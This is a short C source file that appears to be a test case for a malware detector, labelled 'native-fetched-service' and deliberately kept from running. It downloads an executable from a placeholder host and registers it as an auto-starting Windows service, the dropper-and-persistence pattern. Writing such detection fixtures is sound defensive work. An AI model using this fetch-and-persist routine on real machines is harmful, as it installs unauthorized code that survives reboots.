/* A program is fetched and becomes a service.
 * expect: native-fetched-service
 * flags: -O2 -lurlmon
 * for: windows
 */
#include <winsock2.h>
#include <windows.h>
#include <stdio.h>
#include <urlmon.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static int act(void) {
    const char *path = "C:\\ProgramData\\x-nonexistent.exe";
    URLDownloadToFileA(0, "http://p.example.invalid/x", path, 0, 0);
    SC_HANDLE manager = OpenSCManagerA(0, 0, SC_MANAGER_CREATE_SERVICE);
    return CreateServiceA(manager, "x", "x", SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS, SERVICE_AUTO_START, 0, path, 0, 0, 0, 0, 0) != 0;
}

int main(void) { return never ? act() : 0; }
